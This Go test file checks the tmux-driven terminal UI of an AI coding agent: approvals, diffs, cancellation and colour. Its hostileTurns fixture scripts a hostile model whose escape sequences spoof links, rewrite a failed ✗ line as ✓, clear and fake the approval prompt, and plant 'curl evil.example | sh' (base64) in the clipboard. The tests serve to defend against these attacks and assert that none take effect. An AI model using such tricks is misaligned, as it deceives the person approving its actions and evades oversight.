package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// The terminal UI as a person sees it: interactive fluffy runs in a tmux
// pane (120x40), the test types keys and reads the screen with
// capture-pane. tmux missing skips the tests, except in CI (CI=true),
// which installs it (scripts/deps.sh).

// screen is one tmux server with one pane running a command.
type screen struct {
	t    *testing.T
	sock string
	env  []string
}

func requireTmux(t *testing.T) {
	t.Helper()
	if _, err := exec.LookPath("tmux"); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("CI installs tmux (scripts/deps.sh), but:", err)
		}
		t.Skip("needs tmux")
	}
}

// fluffyEnv is a private data directory and config for the pane. The
// data directory is removed once the kernel has stopped (see startScreen):
// a kernel finishing its last writes must not fail the test's own
// clean-up.
func fluffyEnv(t *testing.T, dir string) []string {
	home, err := os.MkdirTemp("", "fluffy-ui-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		var err error
		for range 50 {
			if err = os.RemoveAll(home); err == nil {
				return
			}
			time.Sleep(100 * time.Millisecond)
		}
		t.Errorf("remove the data directory: %v", err)
	})
	env := []string{
		"PATH=" + os.Getenv("PATH"),
		"HOME=" + dir,
		"FLUFFY_HOME=" + home,
		"XDG_CONFIG_HOME=" + filepath.Join(dir, "config"),
		"XDG_RUNTIME_DIR=",
		"FLUFFY_KERNEL_IDLE_TIMEOUT=3s",
		"TERM=xterm-256color",
		"LANG=C.UTF-8",
	}
	return env
}

// startScreen runs argv in a new detached 120x40 pane with env, in dir.
// The pane stays when the command ends, so its last screen and exit
// status (waitExit) can be read.
func startScreen(t *testing.T, dir string, env []string, argv ...string) *screen {
	t.Helper()
	tmp := t.TempDir()
	s := &screen{t: t, sock: filepath.Join(tmp, "tmux.sock"), env: env}
	conf := filepath.Join(tmp, "tmux.conf")
	if err := os.WriteFile(conf, []byte("set -g remain-on-exit on\nset -g status off\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	args := []string{"-S", s.sock, "-f", conf, "new-session", "-d", "-x", "120", "-y", "40", "-c", dir}
	for _, kv := range env {
		args = append(args, "-e", kv)
	}
	// The shell catches SIGINT (a handler, not an ignore, so the command
	// gets the default disposition back) to outlive the command's Ctrl-C
	// and print its exit status.
	args = append(args, "sh", "-c", `trap : INT; "$@"; echo "EXIT=$?"`, "sh")
	s.tmux(append(args, argv...)...)
	t.Cleanup(func() {
		exec.Command("tmux", "-S", s.sock, "kill-server").Run()
		stop := exec.Command("fluffy", "kernel", "stop")
		stop.Env = env
		if out, err := stop.CombinedOutput(); err != nil {
			t.Logf("fluffy kernel stop: %v\n%s", err, out)
		}
	})
	return s
}

func (s *screen) tmux(args ...string) string {
	s.t.Helper()
	cmd := exec.Command("tmux", args...)
	cmd.Env = s.env
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Run(); err != nil {
		s.t.Fatalf("tmux %v: %v\n%s", args, err, errb.String())
	}
	return out.String()
}

// keys types keys (tmux key names: Enter, C-c, or literal text).
func (s *screen) keys(keys ...string) {
	s.t.Helper()
	s.tmux(append([]string{"-S", s.sock, "send-keys", "-t", "0"}, keys...)...)
}

// text types literal text.
func (s *screen) text(text string) {
	s.t.Helper()
	s.tmux("-S", s.sock, "send-keys", "-t", "0", "-l", text)
}

// capture returns the pane's visible screen, one string per row.
func (s *screen) capture() []string {
	s.t.Helper()
	return strings.Split(strings.TrimSuffix(s.tmux("-S", s.sock, "capture-pane", "-p", "-t", "0"), "\n"), "\n")
}

// waitFor waits until the screen matches re and returns it.
func (s *screen) waitFor(re string) []string {
	s.t.Helper()
	rx := regexp.MustCompile(re)
	deadline := time.Now().Add(30 * time.Second)
	for {
		rows := s.capture()
		if rx.MatchString(strings.Join(rows, "\n")) {
			return rows
		}
		if time.Now().After(deadline) {
			s.t.Fatalf("the screen never showed %q:\n%s", re, strings.Join(rows, "\n"))
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// waitExit waits until the command has ended and returns its exit
// status, which the wrapping shell prints (tmux itself, under load, was
// seen to leave an ended pane process unreaped and the pane "alive").
func (s *screen) waitExit() int {
	s.t.Helper()
	rows := s.waitFor(`(?m)^EXIT=[0-9]+$`)
	m := regexp.MustCompile(`(?m)^EXIT=([0-9]+)$`).FindStringSubmatch(strings.Join(rows, "\n"))
	n, err := strconv.Atoi(m[1])
	if err != nil {
		s.t.Fatal(err)
	}
	return n
}

// has fails unless the screen holds every pattern.
func has(t *testing.T, rows []string, patterns ...string) {
	t.Helper()
	screen := strings.Join(rows, "\n")
	for _, p := range patterns {
		if !regexp.MustCompile(p).MatchString(screen) {
			t.Errorf("the screen lacks %q:\n%s", p, screen)
		}
	}
}

const uiScript = `{"turn": {"text": "Let me write a file.", "tool_calls": [{"id": "w1", "name": "fs.write", "args": {"path": "hello.txt", "content": "hello from fluffy\n"}}]}}
{"expect": {"id": "w1", "is_error": false}}
{"turn": {"text": "Now a command.", "tool_calls": [{"id": "x1", "name": "shell.exec", "args": {"command": "echo hi from the sandbox"}}]}}
{"expect": {"id": "x1", "contains": "hi from the sandbox"}}
{"turn": {"text": "All done here."}}
{"end": {}}
`

// TestTerminalUI: a task, its streamed text and gate lines, an approval
// answered y, the status line on the bottom row, /diff, /apply, /quit.
func TestTerminalUI(t *testing.T) {
	requireTmux(t)
	dir := t.TempDir()
	repo := filepath.Join(dir, "repo")
	if err := os.MkdirAll(repo, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(repo, "README.md"), []byte("A small project.\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	script := filepath.Join(dir, "ui.jsonl")
	if err := os.WriteFile(script, []byte(uiScript), 0o644); err != nil {
		t.Fatal(err)
	}
	s := startScreen(t, repo, fluffyEnv(t, dir), "fluffy", "-m", "replay/"+script)

	rows := s.waitFor(`(?m)^fluffy›$`)
	has(t, rows, `^fluffy · replay/`, `Type a task\. /help lists the commands`)
	// The status line holds the bottom row from the start.
	if last := rows[len(rows)-1]; !strings.Contains(last, "replay/") || !strings.Contains(last, "no session yet") {
		t.Errorf("bottom row before the first task: %q", last)
	}

	s.text("write a greeting")
	s.keys("Enter")
	rows = s.waitFor(`approve\? \[y\]es / \[n\]o`)
	has(t, rows,
		`fluffy› write a greeting`,
		`(?m)^Let me write a file\.$`,
		`(?m)^→ fs\.write \{"path":"hello.txt","content":"hello from fluffy\\n"\}$`,
		`(?m)^  ✓ fs\.write \[allow: rule default\.write-workspace\]: wrote hello\.txt`,
		`(?m)^→ shell\.exec \{"command":"echo hi from the sandbox"\}$`,
		`(?m)^\? approval needed$`,
		`Needs your approval:`,
	)
	last := rows[len(rows)-1]
	if !regexp.MustCompile(`^ replay/ui\.jsonl · turn 2 · tokens [0-9,]+ in / [0-9,]+ out · \$0\.0000 · tdd \w+ \(strict\) · s[0-9a-f]{12} · working$`).MatchString(last) {
		t.Errorf("status line on the bottom row: %q", last)
	}

	s.keys("y", "Enter")
	rows = s.waitFor(`(?m)^· stopped: done after 3 turn\(s\)`)
	has(t, rows,
		`(?m)^  ✓ shell\.exec \[approve: rule fallback \(approved by a person, request \w+\)\]: hi from the sandbox`,
		`(?m)^All done here\.$`,
	)
	s.waitFor(`(?m)^fluffy›$`)
	if last := s.capture()[39]; !strings.Contains(last, "turn 3") || !strings.HasSuffix(strings.TrimSpace(last), "· ready") {
		t.Errorf("status line after the turn: %q", last)
	}

	s.text("/diff")
	s.keys("Enter")
	rows = s.waitFor(`(?m)^\+hello from fluffy$`)
	has(t, rows, `(?m)^ hello\.txt \|\s+1 \+$`, `1 file changed, 1 insertion\(\+\), 0 deletions\(-\)`, `(?m)^\+\+\+ b/hello\.txt$`)
	if _, err := os.Stat(filepath.Join(repo, "hello.txt")); err == nil {
		t.Fatal("hello.txt reached the working tree before /apply")
	}

	s.text("/apply")
	s.keys("Enter")
	s.waitFor(`applied 1 change\(s\) to the working tree:\n  added +hello\.txt`)
	if b, err := os.ReadFile(filepath.Join(repo, "hello.txt")); err != nil || string(b) != "hello from fluffy\n" {
		t.Fatalf("after /apply: %q, %v", b, err)
	}

	s.text("/status")
	s.keys("Enter")
	s.waitFor(`pending changes: 0\naudit: entries [0-9]+\.\.[0-9]+`)

	s.text("/quit")
	s.keys("Enter")
	if code := s.waitExit(); code != 0 {
		t.Errorf("exit status %d", code)
	}
	rows = s.capture()
	has(t, rows, `(?m)^no changes$`, `(?m)^audit: entries [0-9]+\.\.[0-9]+ \(fluffy audit log --session s[0-9a-f]{12}\)$`)
	// The bottom row is given back at exit.
	if last := s.capture()[39]; strings.Contains(last, "tokens") {
		t.Errorf("status line left behind: %q", last)
	}
}

// hangingTurn starts interactive fluffy on a model that never answers (a
// refused connection, retried), sends a task and presses Ctrl-C once.
func hangingTurn(t *testing.T) (*screen, []string) {
	requireTmux(t)
	dir := t.TempDir()
	env := append(fluffyEnv(t, dir), "OLLAMA_HOST=127.0.0.1:1")
	ws := filepath.Join(dir, "ws")
	if err := os.MkdirAll(ws, 0o755); err != nil {
		t.Fatal(err)
	}
	s := startScreen(t, ws, env, "fluffy", "-m", "ollama/x", "--set", "llm.retry_attempts=1000", "--set", "llm.retry_budget=10m")
	s.waitFor(`(?m)^fluffy›$`)
	s.text("wait for a model that never answers")
	s.keys("Enter")
	s.waitFor(`session s[0-9a-f]{12} · ollama/x`)
	s.keys("C-c")
	return s, env
}

// TestTerminalCtrlC: Ctrl-C once cancels the running turn and the prompt
// comes back; twice detaches, the session paused and resumable. The
// model hangs on a connection that is refused and retried.
func TestTerminalCtrlC(t *testing.T) {
	s, env := hangingTurn(t)
	rows := s.waitFor(`(?m)· stopped: cancelled after [0-9]+ turn\(s\)[^\n]*\nfluffy›$`)
	has(t, rows, `cancelling the turn \(Ctrl-C again within 2s to detach`)

	s.text("and again")
	s.keys("Enter")
	s.waitFor(`fluffy› and again\n`)
	time.Sleep(300 * time.Millisecond)
	// Two presses within 2s (signals that arrive together coalesce, so
	// not at once): the second lands during the cancel or at the prompt
	// that follows it; either way the client detaches.
	s.keys("C-c")
	time.Sleep(200 * time.Millisecond)
	s.keys("C-c")
	if code := s.waitExit(); code != 130 {
		t.Errorf("exit status %d, want 130", code)
	}
	rows = s.capture()
	has(t, rows, `detached: session (s[0-9a-f]{12}) stays open with its change set; resume it: fluffy session resume s`)

	ls := exec.Command("fluffy", "session", "ls")
	ls.Env = env
	out, err := ls.CombinedOutput()
	if err != nil {
		t.Fatalf("session ls: %v\n%s", err, out)
	}
	if !regexp.MustCompile(`paused +ollama/x +[0-9]+ +wait for a model`).Match(out) {
		t.Errorf("session ls after detaching:\n%s", out)
	}
}

// TestTerminalSIGTERM: a SIGTERM while the line editor waits (raw mode)
// still leaves at once: the terminal is restored, the session stays open.
func TestTerminalSIGTERM(t *testing.T) {
	s, _ := hangingTurn(t)
	s.waitFor(`(?m)· stopped: cancelled after [0-9]+ turn\(s\)[^\n]*\nfluffy›$`)
	// The pane runs sh, which runs fluffy.
	sh := strings.TrimSpace(s.tmux("-S", s.sock, "list-panes", "-t", "0", "-F", "#{pane_pid}"))
	out, err := exec.Command("ps", "-o", "pid=", "--ppid", sh).Output()
	if err != nil {
		t.Fatalf("ps: %v", err)
	}
	pid, err := strconv.Atoi(strings.TrimSpace(string(out)))
	if err != nil {
		t.Fatalf("fluffy's pid from %q: %v", out, err)
	}
	if err := syscall.Kill(pid, syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if code := s.waitExit(); code != 143 {
		t.Errorf("exit status %d, want 143", code)
	}
	has(t, s.capture(), `fluffy: detached: session s[0-9a-f]{12} stays open with its change set`)
}

// TestTerminalMultiline: a bracketed paste stays one message (its lines
// shown as ␤ while edited), a trailing backslash continues the line, and
// both are kept in the history file.
func TestTerminalMultiline(t *testing.T) {
	requireTmux(t)
	dir := t.TempDir()
	ws := filepath.Join(dir, "ws")
	if err := os.MkdirAll(ws, 0o755); err != nil {
		t.Fatal(err)
	}
	script := filepath.Join(dir, "hi.jsonl")
	if err := os.WriteFile(script, []byte(`{"turn": {"text": "Hello."}}`+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	env := fluffyEnv(t, dir)
	s := startScreen(t, ws, env, "fluffy", "-m", "replay/"+script)
	s.waitFor(`(?m)^fluffy›$`)
	s.tmux("-S", s.sock, "set-buffer", "first pasted line\nsecond pasted line")
	s.tmux("-S", s.sock, "paste-buffer", "-p", "-t", "0")
	s.waitFor(`fluffy› first pasted line␤second pasted line`)
	s.keys("Enter")
	s.waitFor(`(?m)^Hello\.$`)
	s.waitFor(`(?m)^fluffy›$`)
	s.text(`a message \`)
	s.keys("Enter")
	s.waitFor(`(?m)^     … $|(?m)^     …$`)
	s.text("on two lines")
	s.keys("Enter")
	s.waitFor(`(?m)^     … on two lines$`)
	s.waitFor(`(?m)^fluffy›$`)
	s.text("/quit")
	s.keys("Enter")
	if code := s.waitExit(); code != 0 {
		t.Errorf("exit status %d", code)
	}

	ls := exec.Command("fluffy", "session", "ls", "--all", "--json")
	ls.Env = env
	out, err := ls.CombinedOutput()
	if err != nil {
		t.Fatalf("session ls: %v\n%s", err, out)
	}
	if !strings.Contains(string(out), `"task": "first pasted line\nsecond pasted line"`) {
		t.Errorf("the pasted task is not one message:\n%s", out)
	}
	var home string
	for _, kv := range env {
		if v, ok := strings.CutPrefix(kv, "FLUFFY_HOME="); ok {
			home = v
		}
	}
	hist, err := os.ReadFile(filepath.Join(home, "history"))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"first pasted line␤second pasted line\n", "a message ␤on two lines\n", "/quit\n"} {
		if !strings.Contains(string(hist), want) {
			t.Errorf("history lacks %q:\n%s", want, hist)
		}
	}
	if fi, err := os.Stat(filepath.Join(home, "history")); err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("history file mode: %v, %v", fi.Mode(), err)
	}
}

// TestTerminalCtrlCTool: Ctrl-C during a sandboxed command stops it (its
// result says interrupted, the model is not asked again) and the prompt
// comes back.
func TestTerminalCtrlCTool(t *testing.T) {
	requireTmux(t)
	dir := t.TempDir()
	ws := filepath.Join(dir, "ws")
	if err := os.MkdirAll(ws, 0o755); err != nil {
		t.Fatal(err)
	}
	script := filepath.Join(dir, "sleep.jsonl")
	if err := os.WriteFile(script, []byte(`{"turn": {"text": "A long command.", "tool_calls": [{"id": "s1", "name": "shell.exec", "args": {"command": "sleep 77"}}]}}
{"turn": {"text": "Never said."}}
`), 0o644); err != nil {
		t.Fatal(err)
	}
	s := startScreen(t, ws, fluffyEnv(t, dir), "fluffy", "-m", "replay/"+script)
	s.waitFor(`(?m)^fluffy›$`)
	s.text("run something long")
	s.keys("Enter")
	s.waitFor(`approve\? \[y\]es`)
	s.keys("y", "Enter")
	// Wait until the command runs in its sandbox.
	deadline := time.Now().Add(30 * time.Second)
	for {
		if len(running("sleep\x0077\x00")) > 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the command never started:\n%s", strings.Join(s.capture(), "\n"))
		}
		time.Sleep(50 * time.Millisecond)
	}
	s.keys("C-c")
	rows := s.waitFor(`(?m)· stopped: cancelled after 1 turn\(s\)[^\n]*\nfluffy›$`)
	has(t, rows, `(?m)^  ✗ shell\.exec[^\n]*: (interrupted|the sandbox could not run the command)`)
	if strings.Contains(strings.Join(rows, "\n"), "Never said.") {
		t.Error("the model was asked again after the cancel")
	}
	if pids := running("sleep\x0077\x00"); len(pids) > 0 {
		t.Errorf("the sandboxed command still runs: pids %v", pids)
	}
	s.text("/quit")
	s.keys("Enter")
	if code := s.waitExit(); code != 0 {
		t.Errorf("exit status %d", code)
	}
}

// running returns the pids whose /proc/PID/cmdline is cmdline exactly.
func running(cmdline string) []string {
	var pids []string
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		if b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline")); err == nil && string(b) == cmdline {
			pids = append(pids, e.Name())
		}
	}
	return pids
}

// TestTerminalApprovedElsewhere: while the approval question waits for the
// keyboard, another terminal approves (fluffy approve) and the run goes on
// for dozens of turns, more events than the IPC client buffers; the
// console keeps reading them (else the answer to its own call would queue
// behind them), and once the person presses Enter it says the request is
// gone and shows the rest of the run.
func TestTerminalApprovedElsewhere(t *testing.T) {
	requireTmux(t)
	dir := t.TempDir()
	ws := filepath.Join(dir, "ws")
	if err := os.MkdirAll(ws, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, "README.md"), []byte("read me\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	b.WriteString(`{"turn": {"text": "A command first.", "tool_calls": [{"id": "e1", "name": "shell.exec", "args": {"command": "echo approved elsewhere"}}]}}` + "\n")
	for i := range 40 {
		fmt.Fprintf(&b, `{"turn": {"text": "Reading again.", "tool_calls": [{"id": "r%d", "name": "fs.read", "args": {"path": "README.md"}}]}}`+"\n", i)
	}
	b.WriteString(`{"turn": {"text": "THE END."}}` + "\n")
	script := filepath.Join(dir, "long.jsonl")
	if err := os.WriteFile(script, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	env := fluffyEnv(t, dir)
	s := startScreen(t, ws, env, "fluffy", "-m", "replay/"+script, "--set", "agent.max_turns=100")
	s.waitFor(`(?m)^fluffy›$`)
	s.text("go")
	s.keys("Enter")
	rows := s.waitFor(`approve\? \[y\]es`)
	m := regexp.MustCompile(`Approval (\w+) for session`).FindStringSubmatch(strings.Join(rows, "\n"))
	if m == nil {
		t.Fatalf("no approval id on the screen:\n%s", strings.Join(rows, "\n"))
	}
	approve := exec.Command("fluffy", "approve", m[1], "/approve")
	approve.Env = env
	if out, err := approve.CombinedOutput(); err != nil {
		t.Fatalf("fluffy approve: %v\n%s", err, out)
	}
	// Let the run finish while the question still waits.
	deadline := time.Now().Add(30 * time.Second)
	for {
		ls := exec.Command("fluffy", "session", "ls")
		ls.Env = env
		out, _ := ls.CombinedOutput()
		if strings.Contains(string(out), " paused ") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the run never ended:\n%s", out)
		}
		time.Sleep(100 * time.Millisecond)
	}
	s.keys("y", "Enter")
	rows = s.waitFor(`(?m)^· stopped: done after 42 turn\(s\)`)
	has(t, rows, `(?m)^THE END\.$`)
	// Scrolled off by now: read the pane's history.
	hist := strings.Split(s.tmux("-S", s.sock, "capture-pane", "-p", "-t", "0", "-S", "-1000"), "\n")
	has(t, hist, `y\nfluffy: [^\n]*no pending approval request`, `(?m)^  ✓ shell\.exec \[approve: [^\n]*: approved elsewhere`)
	s.waitFor(`(?m)^fluffy›$`)
	s.text("/quit")
	s.keys("Enter")
	if code := s.waitExit(); code != 0 {
		t.Errorf("exit status %d", code)
	}
}

// TestTerminalNoColor: colour on a terminal, none with NO_COLOR; the
// status line stays (reverse video is not colour).
func TestTerminalNoColor(t *testing.T) {
	requireTmux(t)
	for _, noColor := range []string{"", "1"} {
		dir := t.TempDir()
		ws := filepath.Join(dir, "ws")
		if err := os.MkdirAll(ws, 0o755); err != nil {
			t.Fatal(err)
		}
		env := append(fluffyEnv(t, dir), "NO_COLOR="+noColor)
		s := startScreen(t, ws, env, "fluffy")
		s.waitFor(`(?m)^fluffy›$`)
		screen := s.tmux("-S", s.sock, "capture-pane", "-e", "-p", "-t", "0")
		rows := strings.Split(strings.TrimSuffix(screen, "\n"), "\n")
		sgr := regexp.MustCompile(`\x1b\[[0-9;]*m`)
		// Every row but the status line: any attribute is colour.
		coloured := sgr.MatchString(strings.Join(rows[:len(rows)-1], "\n"))
		if coloured != (noColor == "") {
			t.Errorf("NO_COLOR=%q: coloured %v:\n%q", noColor, coloured, screen)
		}
		if !regexp.MustCompile(`\x1b\[(0;)?7m`).MatchString(rows[len(rows)-1]) || !strings.Contains(s.capture()[39], "no session yet") {
			t.Errorf("NO_COLOR=%q: no status line:\n%q", noColor, screen)
		}
		s.text("/quit")
		s.keys("Enter")
		if code := s.waitExit(); code != 0 {
			t.Errorf("exit status %d", code)
		}
	}
}

// hostileTurns is a model that attacks the terminal it is shown on: its
// streamed text sets the window title, writes the clipboard (OSC 52),
// links to one place while showing another (OSC 8) and moves the cursor
// up to rewrite a ✗ line as ✓; its tool arguments, file names, file
// contents and tool results carry escapes, bidirectional overrides and
// zero-width characters; its request_approval summary clears the screen
// in the middle of the approval prompt and writes its own text at the
// top.
func hostileTurns(t *testing.T) string {
	t.Helper()
	turn := func(text string, calls ...map[string]any) map[string]any {
		return map[string]any{"turn": map[string]any{"text": text, "tool_calls": calls}}
	}
	call := func(id, name string, args map[string]any) map[string]any {
		return map[string]any{"id": id, "name": name, "args": args}
	}
	lines := []any{
		turn("Looking around.\x1b]0;MODEL-TITLE\x07\n\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\n\x1b]8;;https://evil.example/\x07https://good.example/\x1b]8;;\x07\n",
			call("w1", "fs.write", map[string]any{"path": "bidi\u202etxt.md", "content": "line one\n\x1b[2Kred\x1b]2;DIFF-TITLE\x1b\\ \u200bzero\n"}),
			call("r1", "fs.read", map[string]any{"path": "notes.txt"}),
			call("r2", "fs.read", map[string]any{"path": "missing\u202etxt.md"}),
		),
		turn("\x1b[1A\r\x1b[2K  ✓ fs.read [allow]: REWRITTEN\n",
			call("p1", "request_approval", map[string]any{
				"summary": "tidy up\x1b[2J\x1b[HStep 1: run tests (safe)",
				"steps":   []any{map[string]any{"tool": "shell.exec", "args": map[string]any{"command": "echo hi"}, "note": "harmless\x1b[8m hidden"}},
			}),
		),
		turn("Done.\u009b2J\x9b2J"),
		map[string]any{"end": map[string]any{}},
	}
	var b strings.Builder
	for _, l := range lines {
		j, err := json.Marshal(l)
		if err != nil {
			t.Fatal(err)
		}
		b.Write(j)
		b.WriteByte('\n')
	}
	return b.String()
}

// TestTerminalHostileModel: nothing the model sends acts on the terminal.
// The screen shows its escape sequences visibly, fluffy's own lines (the
// ✗ gate line, the approval prompt) stay where they were drawn, the
// window title and the clipboard are untouched.
func TestTerminalHostileModel(t *testing.T) {
	requireTmux(t)
	dir := t.TempDir()
	ws := filepath.Join(dir, "ws")
	if err := os.MkdirAll(ws, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, "notes.txt"), []byte("\x1b]2;FILE-TITLE\x07file says hi\x1b[2J\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	script := filepath.Join(dir, "hostile.jsonl")
	if err := os.WriteFile(script, []byte(hostileTurns(t)), 0o644); err != nil {
		t.Fatal(err)
	}
	env := fluffyEnv(t, dir)
	s := startScreen(t, ws, env, "fluffy", "-m", "replay/"+script)
	// Let programs in the pane write tmux's clipboard (OSC 52), so a
	// write would show as a paste buffer.
	s.tmux("-S", s.sock, "set", "-g", "set-clipboard", "on")
	title := strings.TrimSpace(s.tmux("-S", s.sock, "display", "-p", "-t", "0", "#{pane_title}"))
	s.waitFor(`(?m)^fluffy›$`)
	s.text("tidy the workspace")
	s.keys("Enter")
	rows := s.waitFor(`approve\? \[y\]es / \[n\]o`)
	has(t, rows,
		// fluffy's own lines drawn before the prompt are still there.
		`fluffy› tidy the workspace`,
		`(?m)^Looking around\.\\x1b\]0;MODEL-TITLE\\a$`,
		`(?m)^\\x1b\]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a$`,
		`(?m)^\\x1b\]8;;https://evil\.example/\\ahttps://good\.example/\\x1b\]8;;\\a$`,
		`(?m)^→ fs\.read \{"path":"missing\\u202etxt\.md"\}$`,
		// Tool results reach the screen after the result sanitizer
		// (internal/tool) has stripped their sequences.
		`(?m)^  ✓ fs\.read \[allow[^\n]*file says hi`,
		`(?m)^  ✗ fs\.read \[allow[^\n]*file does not exist`,
		`(?m)^→ fs\.write \{"content":"line one\\n\\u001b\[2Kred`,
		// The ✗ line the model tried to rewrite as ✓ (cursor up, column
		// 0, erase line) is intact, the attempt shown below it.
		`(?m)^  ✗ fs\.read \[allow[^\n]*file does not exist\n\\x1b\[1A\\r\\x1b\[2K  ✓ fs\.read \[allow\]: REWRITTEN$`,
		`(?m)^\? approval needed$`,
		`(?m)^Approval \w+ for session s[0-9a-f]{12}: tidy up\\x1b\[2J\\x1b\[HStep 1: run tests \(safe\)$`,
		`harmless\\x1b\[8m hidden`,
	)
	s.keys("n", "Enter")
	rows = s.waitFor(`(?m)^· stopped: done after 3 turn\(s\)`)
	has(t, rows, `(?m)^Done\.\\u009b2J\x{fffd}2J$`) // JSON made the raw byte U+FFFD
	s.waitFor(`(?m)^fluffy›$`)
	checkTitleClipboard := func() {
		t.Helper()
		if got := strings.TrimSpace(s.tmux("-S", s.sock, "display", "-p", "-t", "0", "#{pane_title}")); got != title || strings.Contains(got, "TITLE") {
			t.Errorf("the pane's title changed from %q to %q", title, got)
		}
		if bufs := strings.TrimSpace(s.tmux("-S", s.sock, "list-buffers")); bufs != "" {
			t.Errorf("the clipboard was written: %s", bufs)
		}
	}
	checkTitleClipboard()

	s.text("/diff")
	s.keys("Enter")
	rows = s.waitFor(`(?m)^\+\\x1b\[2Kred`)
	has(t, rows,
		`(?m)^ bidi\\u202etxt\.md \|\s+2 \+\+$`,
		`(?m)^\+\+\+ "b/bidi\\u202etxt\.md"$`,
		`(?m)^\+\\x1b\[2Kred\\x1b\]2;DIFF-TITLE\\x1b\\ \\u200bzero$`,
	)

	checkTitleClipboard()
	// The raw screen (with attributes) holds fluffy's colours only: no
	// hidden (SGR 8) or red text the model asked for.
	raw := s.tmux("-S", s.sock, "capture-pane", "-e", "-p", "-t", "0", "-S", "-1000")
	if strings.Contains(raw, "\x1b[8m") || strings.Contains(raw, "\x1b]") {
		t.Errorf("the model's attributes reached the screen:\n%q", raw)
	}

	s.text("/quit")
	s.keys("Enter")
	rows = s.waitFor(`apply these changes`)
	has(t, rows, `(?m)^  added +bidi\\u202etxt\.md$`)
	s.keys("k", "Enter")
	rows = s.waitFor(`(?m)^EXIT=0$`)
	m := regexp.MustCompile(`fluffy session close (s[0-9a-f]{12})`).FindStringSubmatch(strings.Join(rows, "\n"))
	if m == nil {
		t.Fatalf("no session id on the screen:\n%s", strings.Join(rows, "\n"))
	}

	// The data commands on a terminal: the diff and the names escaped.
	for _, argv := range [][]string{{"fluffy", "session", "diff", m[1]}, {"fluffy", "changeset", "ls", "--session", m[1]}} {
		d := startScreen(t, ws, env, argv...)
		rows := d.waitFor(`(?m)^EXIT=0$`)
		if argv[1] == "session" {
			has(t, rows, `(?m)^\+\+\+ "b/bidi\\u202etxt\.md"$`, `(?m)^\+\\x1b\[2Kred\\x1b\]2;DIFF-TITLE\\x1b\\ \\u200bzero$`)
		} else {
			has(t, rows, `(?m)^A file +bidi\\u202etxt\.md$`)
		}
		if got := strings.TrimSpace(d.tmux("-S", d.sock, "display", "-p", "-t", "0", "#{pane_title}")); strings.Contains(got, "TITLE") {
			t.Errorf("%v changed the pane's title to %q", argv, got)
		}
	}
}
